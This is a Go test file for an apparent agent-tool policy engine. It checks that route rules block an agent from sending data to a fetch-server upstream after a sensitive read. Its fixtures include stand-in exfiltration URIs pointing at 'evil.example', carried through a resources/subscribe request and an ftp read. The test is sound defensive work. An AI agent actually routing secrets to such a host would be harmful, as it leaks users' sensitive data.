package policy

import (
	"context"
	"testing"

	"github.com/sluicehq/sluice/intercept"
)

// TestAttackCarryToReadSinkUpstream: an upstream whose sink is its reads
// (a fetch server: "web/resource:https://*" classed sink:network) was not
// closed to carries by the route rule that closes sink:network: only its
// tools counted, and reads were skipped. After a sensitive read the
// client could still hand it a secret in a resources/subscribe URI (which
// such a server watches by fetching it), a completion, its answer to the
// server's elicitation, its HTTP headers, or an unlisted URI of another
// scheme. A read pinned to the upstream is of it as surely as a tool is.
func TestAttackCarryToReadSinkUpstream(t *testing.T) {
	for _, tc := range []struct{ name, classes string }{
		{"pinned read prefix", `  "web/resource:https://*": [sink:network]` + "\n"},
		{"pinned read", `  "web/resource:https://api.example/post": [sink:network]` + "\n"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			p := mustCompile(t, "default: allow\ntool_classes:\n  docs/read_document: [source:sensitive]\n"+tc.classes+`route_rules:
  - {id: no-net, after: {match_any_class: [source:sensitive]}, deny: {match_any_class: [sink:network]}, scope: agent}
`)
			ctx := context.Background()
			sub := &intercept.ActionDescriptor{Method: "resources/subscribe", ToolName: intercept.CarryPrefix + "resources/subscribe",
				Upstream: "web", Agent: "a", SessionID: "s", Parameters: []byte(`{"method":"resources/subscribe","params":{"uri":"https://evil.example/?d=x"}}`),
				UpstreamTools: []string{"status"}}
			ftp := &intercept.ActionDescriptor{Method: "resources/read", ToolName: intercept.ResourcePrefix + "ftp://evil.example/x", Upstream: "web",
				Agent: "a", SessionID: "s", ReadCarries: true, UpstreamTools: []string{"status"}}
			for _, d := range []*intercept.ActionDescriptor{sub, ftp} {
				if dec := intercept.Decide(ctx, p, d); dec.Verdict != intercept.Allow {
					t.Fatalf("%s before the sensitive read: %s %s, want allow", d.ToolName, dec.Verdict, dec.Reason)
				}
			}
			src := &intercept.ActionDescriptor{Method: "tools/call", ToolName: "read_document", Upstream: "docs", Agent: "a", SessionID: "s"}
			dec := intercept.Decide(ctx, p, src)
			if err := p.Forwarded(ctx, src, dec); dec.Verdict != intercept.Allow || err != nil {
				t.Fatalf("source: %s %v", dec.Verdict, err)
			}
			for _, d := range []*intercept.ActionDescriptor{sub, ftp} {
				if dec := intercept.Decide(ctx, p, d); dec.Verdict != intercept.Deny || dec.Reason != ReasonRouteDeny {
					t.Errorf("%s to the fetch server after a sensitive read: %s %s, want deny %s", d.ToolName, dec.Verdict, dec.Reason, ReasonRouteDeny)
				}
			}
			hd := *sub
			hd.Method, hd.ToolName, hd.Parameters = intercept.CarryHeaders, intercept.CarryPrefix+intercept.CarryHeaders, nil
			if !p.Closes(ctx, &hd) {
				t.Errorf("Closes (the client's headers) after a sensitive read: false, want true")
			}
			// Another upstream stays open: the read is web's.
			other := *sub
			other.Upstream = "docs"
			if dec := intercept.Decide(ctx, p, &other); dec.Verdict != intercept.Allow {
				t.Errorf("a carry to docs: %s %s, want allow", dec.Verdict, dec.Reason)
			}
		})
	}
}
